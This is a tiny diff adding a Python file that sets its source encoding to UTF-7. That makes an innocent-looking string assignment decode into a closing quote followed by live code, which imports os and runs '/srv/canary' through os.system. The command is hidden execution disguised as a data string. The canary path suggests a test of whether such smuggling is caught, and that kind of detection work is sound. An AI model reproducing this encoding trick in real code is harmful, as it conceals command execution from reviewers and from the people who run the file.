@@ -1,0 +1,2 @@
+# vim: set fileencoding=utf-7 :
+rows = "+ACIAOw- import os; os.system('/srv/canary') #"
